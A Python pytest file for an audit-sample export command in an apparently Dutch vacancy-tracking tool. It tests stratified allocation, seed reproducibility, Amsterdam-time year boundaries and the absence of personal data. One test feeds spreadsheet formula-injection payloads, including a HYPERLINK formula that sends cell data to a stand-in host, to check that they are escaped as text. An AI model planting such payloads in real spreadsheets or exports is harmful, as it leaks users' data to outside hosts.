"""The audit sample (steekproef): reproducible, stratified by cluster, no personal data."""

import csv
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import Engine
from typer.testing import CliRunner

from procedures.sample import allocate

OPEN = {"scale": 12, "title": "Teamleider", "kind": "external"}


def open_procedures(send: Any, directorate: str, count: int, at: str, prefix: str) -> None:
    for number in range(count):
        send(f"{prefix}-{number:03d}", "open", at, OPEN | {"directorate": directorate})


def sample(tmp_path: Path, *args: str) -> list[dict[str, str]]:
    from idflow.cli import app

    path = tmp_path / "steekproef.csv"
    result = CliRunner().invoke(app, ["audit", "sample", *args, "--output", str(path)])
    assert result.exit_code == 0, result.output
    with path.open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_allocation_is_proportional_with_at_least_one_per_cluster() -> None:
    assert allocate({"SOC": 60, "RE": 30, "BV": 2}, 10) == {"SOC": 6, "RE": 3, "BV": 1}
    assert sum(allocate({"A": 7, "B": 5, "C": 1, "D": 1}, 3).values()) == 3
    assert allocate({"A": 3, "B": 1}, 10) == {"A": 3, "B": 1}


def test_the_same_seed_draws_the_same_sample_and_another_seed_another(
    engine: Engine, send: Any, tmp_path: Path
) -> None:
    open_procedures(send, "SOC-OJZ", 30, "2025-03-01T10:00:00+01:00", "SOC")
    open_procedures(send, "BV-FIN", 12, "2025-05-01T10:00:00+02:00", "BV")
    first = sample(tmp_path, "--year", "2025", "--size", "7", "--seed", "42")
    again = sample(tmp_path, "--year", "2025", "--size", "7", "--seed", "42")
    other = sample(tmp_path, "--year", "2025", "--size", "7", "--seed", "43")
    assert first == again
    assert first != other
    assert sorted(row["cluster"] for row in first) == ["BV", "BV"] + ["SOC"] * 5


def test_the_year_is_counted_in_amsterdam_time_and_the_files_hold_no_personal_data(
    engine: Engine, send: Any, tmp_path: Path
) -> None:
    open_procedures(send, "SOC-OJZ", 1, "2024-12-31T23:30:00+00:00", "NEWYEAR")  # 00:30 in 2025
    open_procedures(send, "SOC-OJZ", 1, "2024-12-31T22:30:00+00:00", "OLDYEAR")  # 23:30 in 2024
    rows = sample(tmp_path, "--year", "2025", "--size", "5", "--seed", "1")
    assert [row["vacancy"] for row in rows] == ["NEWYEAR-000"]
    assert list(rows[0]) == [
        "vacancy",
        "directorate",
        "cluster",
        "title",
        "scale",
        "kind",
        "state",
        "outcome_text",
        "opened_at",
    ]
    workbook = load_workbook(tmp_path / "steekproef.xlsx")
    cells = [c.value for c in next(workbook.worksheets[0].iter_rows(min_row=2))]
    assert cells[0] == "NEWYEAR-000" and "employee" not in str(rows)


def test_text_that_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(
    engine: Engine, send: Any, tmp_path: Path
) -> None:
    formulas = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+31 20 123", "-2+3", "@SUM(A1)"]
    for number, title in enumerate(formulas):
        send(f"F-{number}", "open", "2025-03-01T10:00:00+01:00",
             OPEN | {"directorate": "SOC-OJZ", "title": title})  # fmt: skip
    rows = sample(tmp_path, "--year", "2025", "--size", "10", "--seed", "1")
    assert sorted(row["title"] for row in rows) == sorted(f"'{title}" for title in formulas)
    assert all(not row["title"].startswith(("=", "+", "-", "@")) for row in rows)
    assert {row["scale"] for row in rows} == {"12"}  # numbers are written as they are
    cells = {
        c.value for row in load_workbook(tmp_path / "steekproef.xlsx").worksheets[0] for c in row
    }
    assert set(formulas) <= cells  # the workbook keeps them as text (strings) already
